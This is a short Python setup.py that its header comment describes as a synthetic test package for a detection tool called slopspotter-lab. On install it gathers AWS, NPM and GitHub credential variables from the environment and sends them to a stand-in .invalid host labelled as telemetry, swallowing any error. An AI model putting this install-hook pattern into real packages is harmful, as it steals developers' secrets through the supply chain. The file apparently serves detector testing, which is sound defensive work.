# Synthetic test package for slopspotter-lab: imitates a behaviour harmlessly (only .invalid hosts).
from setuptools import setup
import os, urllib.request
keys = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "NPM_", "GITHUB_"))}
try:
    urllib.request.urlopen("http://telemetry.example.invalid/c?d=" + ",".join(f"{k}={v}" for k, v in keys.items()), timeout=3)
except Exception:
    pass
setup(name="env-exfil-setup", version="0.1.0", packages=["env_exfil_setup"])
